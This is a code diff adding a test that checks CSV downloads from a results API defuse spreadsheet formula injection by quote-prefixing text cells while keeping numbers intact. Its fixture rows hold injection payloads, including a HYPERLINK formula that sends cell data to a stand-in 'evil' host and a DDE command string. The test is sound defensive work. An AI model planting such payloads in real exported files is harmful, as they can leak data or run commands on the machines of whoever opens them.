@@ -3,6 +3,8 @@ budgets, who may read them, and their place in the schema."""
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 
 import pytest
@@ -156,3 +158,29 @@ def test_the_schema_describes_the_results_and_their_downloads(anonymous_client):
     assert "text/csv" in paths[base + "results.csv"]["get"]["responses"]["200"]["content"]
     parquet = paths[base + "results.parquet"]["get"]["responses"]["200"]["content"]
     assert "application/vnd.apache.parquet" in parquet
+
+
+def test_a_downloaded_csv_runs_no_formula_but_keeps_numbers(owner_client, run, store):
+    rows = [
+        ["unit", "T", "note"],
+        ["0", "-1.5", '=HYPERLINK("http://evil/?"&A1,"x")'],
+        ["1", "+2", "+cmd|' /C calc'!A0"],
+        ["2", "-3e2", "-2+3"],
+        ["3", "4", "@SUM(A1:A2)"],
+        ["4", "5", "\tleading tab"],
+    ]
+    (out_dir(store, run) / "results.csv").write_text(csv_text(rows[0], rows[1:]))
+
+    answer = owner_client.get(results_url(run, "results.csv"))
+    downloaded = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode())))
+
+    assert [row[1] for row in downloaded[1:]] == ["-1.5", "+2", "-3e2", "4", "5"], "numbers stay"
+    assert [row[2] for row in downloaded[1:]] == [
+        "'" + '=HYPERLINK("http://evil/?"&A1,"x")',
+        "'+cmd|' /C calc'!A0",
+        "'-2+3",
+        "'@SUM(A1:A2)",
+        "'\tleading tab",
+    ]
+    page = owner_client.get(results_url(run, "results/")).json()
+    assert page["results"][0]["note"] == '=HYPERLINK("http://evil/?"&A1,"x")', "the API is true"
